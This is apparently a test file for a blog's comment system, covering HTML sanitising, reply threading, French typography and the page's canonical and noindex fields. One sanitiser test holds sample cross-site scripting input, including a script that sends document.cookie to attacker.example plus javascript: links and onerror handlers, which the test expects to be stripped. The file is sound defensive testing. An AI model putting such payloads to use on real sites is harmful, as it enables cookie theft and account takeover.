import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { renderArticlePage } from '../site/views/article.view.tsx';
import { renderStaticPage } from '../site/views/page.view.tsx';
import { makeArticle, makeChrome, makeStaticPage } from '../site/views/views.fixtures.ts';
import { vnuErrors } from '../../test/support/browser.ts';
import { parseHead } from '../../test/support/html-head.ts';
import { commentHtml, parsedCommentHtml } from './comments.html.ts';
import { MAX_COMMENT_DEPTH, presentCommentThread, type CommentView } from './comments.presenter.ts';
import type { PublicCommentRow } from './comments.queries.ts';

function row(id: number, parent: number | null, overrides: Partial<PublicCommentRow> = {}): PublicCommentRow {
  return { id, parent_id: parent, author_name: `Lecteur ${id}`, author_url: null, html: `<p>Commentaire ${id}</p>`, created_at: new Date(Date.UTC(2024, 4, 14, 8, id)).toISOString(), ...overrides };
}

describe('a comment’s HTML', () => {
  it('keeps paragraphs and line breaks as WordPress showed them', () => {
    expect(commentHtml('Premier paragraphe,\nsuite.\n\nSecond paragraphe.', 'en')).toBe('<p>Premier paragraphe,<br>\nsuite.</p>\n<p>Second paragraphe.</p>');
  });

  it('drops scripts, handlers, styles and javascript: links, and marks links as the commenter’s', () => {
    const html = commentHtml(
      'Bel article ! <script>fetch("https://attacker.example/?c=" + document.cookie)</script><a href="javascript:alert(1)">piège</a> <a href="https://boutique.example/" onclick="x()">ma boutique</a> <img src=x onerror=alert(1)> <b style="color:red">gras</b>',
      'en',
    );
    expect(html).toBe('<p>Bel article ! <a rel="nofollow ugc">piège</a> <a href="https://boutique.example/" rel="nofollow ugc">ma boutique</a>  <b>gras</b></p>');
  });

  it('keeps a link whose scheme is written in capitals', () => {
    expect(commentHtml('Voir <a href="HTTPS://boutique.example/">ma boutique</a> <a href="JAVASCRIPT:alert(1)">piège</a>', 'en')).toBe(
      '<p>Voir <a href="https://boutique.example/" rel="nofollow ugc">ma boutique</a> <a rel="nofollow ugc">piège</a></p>',
    );
  });

  it('sets French typography', () => {
    expect(commentHtml('Merci !', 'fr')).toBe('<p>Merci\u202f!</p>');
  });

  it('gives a comment without markup the HTML the parser gives it', () => {
    // Plain comments skip the HTML parser: their paragraphs and line breaks are built directly.
    const pieces = ['Merci', ' ', '  ', '\t', '\n', '\n\n', '\n \n', '\r\n', '\r', '\u00a0', '\u202f', ' !', ' ?', ' :', '« ', ' »', '"', "'", '’', '>', '=', '/', 'é', '😀', '\f', '\v', '\u2028', 'https://boutique.example/', '--', '...', '1,5 %'];
    let seed = 7;
    const next = () => (seed = (seed * 48271) % 2147483647);
    const texts = ['', ' ', '\n\n', 'Un mot', 'Ligne\nsuivante', ' espaces autour \n\n  second  '];
    for (let i = 0; i < 400; i++) texts.push(Array.from({ length: 1 + (next() % 12) }, () => pieces[next() % pieces.length]).join(''));
    for (const text of texts) {
      for (const locale of ['fr', 'en'] as const) expect(commentHtml(text, locale), JSON.stringify(text)).toBe(parsedCommentHtml(text, locale));
    }
  });
});

describe('a comment thread', () => {
  const ids = (thread: CommentView[]): unknown[] => thread.map((comment) => (comment.replies.length > 0 ? [comment.id, ids(comment.replies)] : comment.id));

  it('nests replies under what they answer, oldest first', () => {
    expect(ids(presentCommentThread([row(1, null), row(2, 1), row(3, null), row(4, 2), row(5, 1)]))).toEqual([[1, [[2, [4]], 5]], 3]);
  });

  it('shows a reply whose parent is not shown at the top level', () => {
    expect(ids(presentCommentThread([row(1, null), row(3, 2)]))).toEqual([1, 3]);
  });

  it('stops nesting at the maximum depth', () => {
    const rows = Array.from({ length: MAX_COMMENT_DEPTH + 2 }, (_, index) => row(index + 1, index === 0 ? null : index));
    let depth = 0;
    for (let level = presentCommentThread(rows); level.length > 0; level = level[0]!.replies) depth++;
    expect(depth).toBe(MAX_COMMENT_DEPTH);
  });
});

describe('an article with comments and search-engine fields of its own', () => {
  const chrome = makeChrome({ siteUrl: 'https://www.blog-ecommerce.example', currentPath: '/2024/05/ovh/' });
  const comments = presentCommentThread([
    row(1, null, { author_name: 'Sophie L.', author_url: 'https://boutique-sophie.example.net/', html: commentHtml('Notre boutique était sur SBG2.\nMerci !', 'fr') }),
    row(2, 1, { author_name: 'Claire Martin', html: commentHtml('Merci Sophie.', 'fr') }),
  ]);
  const article = renderArticlePage(chrome, makeArticle({ comments }));
  const elsewhere = renderArticlePage(chrome, makeArticle({ canonicalUrl: 'https://www.partenaire.example/emplois/', noindex: true }));
  const moved = renderStaticPage(chrome, makeStaticPage({ canonicalUrl: '/a-propos/' }));

  it('shows approved comments, threaded, the commenter’s site linked nofollow ugc, without a form or a script', () => {
    expect(article).toContain('<h2 class="section-title" id="k-comments">Commentaires</h2>');
    expect(article).toContain('<a href="https://boutique-sophie.example.net/" rel="nofollow ugc">Sophie L.</a>');
    expect(article).toMatch(/<ol class="comment-replies" aria-label="Réponses à Sophie L\.">\s*<li class="comment" id="comment-2">/);
    const section = article.slice(article.indexOf('<section class="comments'), article.indexOf('</section>', article.indexOf('<section class="comments')));
    expect(section).not.toMatch(/<form|<script|<input/);
    expect(renderArticlePage(chrome, makeArticle())).not.toContain('k-comments');
  });

  it('gives search engines the canonical address and noindex the post asks for', () => {
    const head = parseHead(elsewhere);
    expect(head.links.find((link) => link.rel === 'canonical')?.href).toBe('https://www.partenaire.example/emplois/');
    expect(head.meta.get('robots')).toEqual(['noindex']);
    expect(parseHead(moved).links.find((link) => link.rel === 'canonical')?.href).toBe('https://www.blog-ecommerce.example/a-propos/');
    expect(parseHead(article).meta.get('robots')).toEqual(['max-image-preview:large']);
  });

  it('is valid HTML for the Nu HTML Checker', async () => {
    const errors = await vnuErrors({ 'article-with-comments': article, 'article-noindex': elsewhere });
    expect(errors.map((e) => `${path.basename(e.url)}:${e.lastLine}: ${e.message}`).join('\n')).toBe('');
  }, 120_000);
});
